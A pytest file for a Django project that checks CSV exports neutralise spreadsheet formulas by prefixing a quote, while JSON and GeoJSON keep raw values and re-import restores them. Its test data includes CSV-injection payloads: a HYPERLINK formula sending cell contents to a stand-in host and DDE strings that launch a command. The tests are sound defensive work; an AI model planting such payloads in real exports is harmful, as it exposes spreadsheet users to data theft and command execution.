"""CSV exports neutralise spreadsheet formulas (OWASP); JSON and GeoJSON keep the true values; import restores."""

import csv
import io
import json

import pytest
from django.contrib.gis.geos import Point

from actors.imports import import_file
from actors.models import Structure
from actors.open_data.exports import export_chunks
from actors.standard.formulas import neutralise, restore
from territories.models import Commune, Departement
from tests.fixtures.standard import generated_standard_rows, import_standard_rows

PAYLOADS = {
    "nom": "=HYPERLINK(\"https://pirate.example/?d=\"&A1,\"Cliquez\")",
    "adresse": "+cmd|' /C calc'!A0",
    "complement_adresse": "@SUM(1+1)*cmd|' /C calc'!A0",
    "presentation_detail": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("cell", [*PAYLOADS.values(), "\tTAB=1+1", "\r=1+1", "=1+1", "-a"])
def test_a_formula_gets_a_quote_in_front_and_the_import_takes_it_off(cell):
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["+33549000000", "+33549000000|+33549000001", "-1.102539", "46.5", "Poitiers",
                                  "'déjà cité'", ""])
def test_numbers_phones_and_plain_text_are_left_as_they_are(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


@pytest.mark.django_db
def test_exports_neutralise_formulas_in_csv_only_and_the_csv_imports_back_unchanged(vienne, terms, tmp_path):
    rows = generated_standard_rows(3)
    # A place west of Greenwich (negative longitude), in its own commune: La Rochelle.
    charente_maritime = Departement.objects.create(code="17", name="Charente-Maritime", name_folded="charente-maritime",
                                                   region=vienne["region"], zone="metro")
    Commune.objects.create(code="17300", name="La Rochelle", name_folded="la rochelle", departement=charente_maritime,
                           postal_codes="17000", population=77000, centre=Point(-1.1508, 46.1591))
    rows[0].update(PAYLOADS, telephone="+33549000000", longitude="-1.102539", latitude="46.203005",
                   commune="La Rochelle", code_postal="17000", code_insee="17300")
    import_standard_rows(rows)
    text = "".join(export_chunks(Structure.objects.all(), "csv"))
    exported = {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}[rows[0]["id"]]
    for column, payload in PAYLOADS.items():
        assert exported[column] == "'" + payload, column
    assert exported["telephone"] == "+33549000000" and exported["longitude"] == "-1.102539"
    as_json = {row["id"]: row for row in json.loads("".join(export_chunks(Structure.objects.all(), "json")))}
    assert as_json[rows[0]["id"]]["nom"] == PAYLOADS["nom"]
    geojson = json.loads("".join(export_chunks(Structure.objects.all(), "geojson")))
    assert {f["properties"]["adresse"] for f in geojson["features"]} >= {PAYLOADS["adresse"]}

    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    report = import_file(path, apply=True, source=None)
    assert report.ok, report.summary()
    assert (report.created, report.updated, report.unchanged) == (0, 0, 3)
    assert Structure.objects.get(source_id=rows[0]["id"]).nom == PAYLOADS["nom"]
